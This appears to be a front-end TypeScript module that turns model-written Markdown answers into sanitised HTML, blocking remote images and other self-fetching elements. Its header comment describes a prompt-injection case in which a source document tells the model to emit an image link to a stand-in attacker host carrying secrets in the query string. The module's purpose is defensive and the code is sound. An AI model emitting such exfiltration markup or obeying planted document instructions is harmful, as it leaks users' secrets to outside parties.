// Markdown to safe HTML for answers: marked (GFM), code highlighted by highlight.js once it has
// loaded (highlight.ts), citations "[n]" turned into buttons, everything sanitised by DOMPurify.
//
// An answer is text a model wrote from documents anyone could have written: a document that
// tells the model to emit `![](https://attacker/?q=<secrets>)` must not make the browser fetch
// anything. Images load only from this origin or `data:`; any other image becomes a plain link
// the user may follow, and no other element may load a remote resource by itself (the page's
// Content-Security-Policy is the second wall).

import DOMPurify from "dompurify";
import { Marked, type Tokens } from "marked";
import { escapeHtml, highlight } from "./highlight";

const marked = new Marked({ gfm: true, breaks: false });
marked.use({
  renderer: {
    code({ text, lang }: Tokens.Code) {
      const { html, language } = highlight(text, lang);
      const cls = language ? ` class="hljs language-${escapeHtml(language)}"` : ` class="hljs"`;
      return `<pre><button type="button" class="copy-code" data-copy-code="" aria-label="Copy code">Copy</button><code${cls}>${html}</code></pre>\n`;
    },
  },
  extensions: [
    {
      name: "citation",
      level: "inline",
      start(src: string) {
        const i = src.search(/\[\d{1,3}\]/);
        return i === -1 ? undefined : i;
      },
      tokenizer(src: string) {
        // "[3]" (also "[1][2]"), not a link "[3](…)" nor a reference definition "[3]:".
        const m = /^\[(\d{1,3})\](?![(:])/.exec(src);
        if (!m) return undefined;
        return { type: "citation", raw: m[0], n: Number(m[1]) };
      },
      renderer(token) {
        const n = (token as unknown as { n: number }).n;
        return `<button type="button" class="cite" data-cite="${n}" aria-label="Citation ${n}">[${n}]</button>`;
      },
    },
  ],
});

/** True for a URL an image may load from: this page's origin, or inline `data:` images. */
export function isLocalImageSource(src: string, base: string = window.location.href): boolean {
  if (/^data:image\//i.test(src.trim())) return true;
  try {
    const url = new URL(src, base);
    return url.origin === new URL(base).origin && (url.protocol === "http:" || url.protocol === "https:");
  } catch {
    return false;
  }
}

// Elements that fetch by themselves and that an answer never needs.
const FORBIDDEN_TAGS = ["style", "form", "input", "video", "audio", "source", "track", "picture", "iframe", "object", "embed", "link", "meta", "base", "svg", "math"];
// Attributes that fetch or ping by themselves.
const FORBIDDEN_ATTRS = ["srcset", "ping", "poster", "background", "lowsrc", "dynsrc", "style"];

const purifier = DOMPurify();
purifier.addHook("afterSanitizeAttributes", (node) => {
  if (node.nodeName !== "IMG") return;
  const img = node as HTMLImageElement;
  const src = img.getAttribute("src") ?? "";
  if (src && isLocalImageSource(src)) return;
  // A remote image: show a link the user may choose to open, never fetched automatically.
  const doc = img.ownerDocument;
  const link = doc.createElement("a");
  link.setAttribute("href", src);
  link.setAttribute("class", "blocked-image");
  link.setAttribute("rel", "noopener noreferrer nofollow");
  link.setAttribute("title", "Remote image not loaded");
  link.textContent = `[image: ${img.getAttribute("alt") || "remote"}]`;
  img.replaceWith(link);
});

/** Sanitised HTML of a Markdown answer. */
export function renderMarkdown(text: string): string {
  const html = marked.parse(text, { async: false });
  return purifier.sanitize(html, {
    ADD_ATTR: ["data-cite", "data-copy-code", "target"],
    FORBID_TAGS: FORBIDDEN_TAGS,
    FORBID_ATTR: FORBIDDEN_ATTRS,
  });
}

